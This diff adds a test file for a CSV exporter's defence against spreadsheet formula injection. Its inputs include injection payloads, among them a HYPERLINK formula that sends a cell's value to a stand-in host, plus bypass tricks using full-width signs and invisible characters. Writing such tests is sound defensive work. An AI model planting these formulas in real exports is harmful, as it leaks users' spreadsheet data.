@@ -1,0 +1,87 @@
+import { parse } from "csv-parse/sync";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { csvLine, inert } from "./csv.ts";
+
+describe("inert", () => {
+  test.each([
+    ["=1+1", "'=1+1"],
+    ['=HYPERLINK("http://x.test?"&A1)', '\'=HYPERLINK("http://x.test?"&A1)'],
+    ["+491234", "'+491234"],
+    ["-2+3", "'-2+3"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["  =1", "'  =1"],
+    ["\t=1", "'\t'=1"],
+    ["\r=1", "'\r'=1"],
+    ["\tx", "'\tx"],
+    ["\u00a0=1", "'\u00a0=1"],
+    ["\ufeff=1", "'\ufeff=1"],
+    ["\u200b=1", "'\u200b=1"],
+    ["＝1＋1", "'＝1＋1"],
+    ["－1", "'－1"],
+    ["＠x", "'＠x"],
+    ["﹦1", "'﹦1"],
+    ["−1", "'−1"],
+    ["x;=1", "x;'=1"],
+    ["x\n=1\n-2", "x\n'=1\n'-2"],
+    ["x\t@y", "x\t'@y"],
+  ])("puts an apostrophe before what would run: %j", (text, made) => {
+    expect(inert(text)).toBe(made);
+  });
+
+  test.each(["Ana", "a=b", "1987-02-03", "a@b.test", "Díaz-Łu", "2026-05-01T00:00:00.000Z", "O'Neil", "", "a, b"])(
+    "leaves %j as it is",
+    (text) => {
+      expect(inert(text)).toBe(text);
+    },
+  );
+
+  test("leaves nothing that begins like a formula, whatever the text", () => {
+    const piece = fc.constantFrom(
+      "=",
+      "+",
+      "-",
+      "@",
+      "＝",
+      "−",
+      "\t",
+      "\r",
+      "\n",
+      " ",
+      ";",
+      '"',
+      ",",
+      "a",
+      "'",
+      "\ufeff",
+    );
+    const begins = /(^|[;\t\r\n])[\s\u200b]*[=+\-@＝−]/u;
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+        const made = inert(pieces.join(""));
+        expect(made).not.toMatch(begins);
+        expect(made).not.toMatch(/^[\t\r]/);
+      }),
+    );
+  });
+});
+
+describe("csvLine", () => {
+  test("writes numbers as they are, negative ones too, nothing as nothing, and ends with CR LF", () => {
+    expect(csvLine([-0.25, 0, 1e-7, null, "x"])).toBe("-0.25,0,1e-7,,x\r\n");
+  });
+
+  test("is read back by another reader as what was written, whatever the texts", () => {
+    const text = fc.string({ unit: "grapheme", maxLength: 12 }).map((it) => it.replaceAll(/[=+\-@]/g, ""));
+    const hostile = fc.constantFrom('"', '""', 'a"b', "a,b", "a\r\nb", "\n", " x ", ";", "'", "a\rb", ",");
+    fc.assert(
+      fc.property(
+        fc.array(fc.array(fc.oneof(text, hostile), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
+        (lines) => {
+          const read = parse(lines.map(csvLine).join(""), { relax_column_count: false, record_delimiter: "\r\n" });
+          expect(read).toEqual(lines.map((cells) => cells.map(inert)));
+        },
+      ),
+    );
+  });
+});
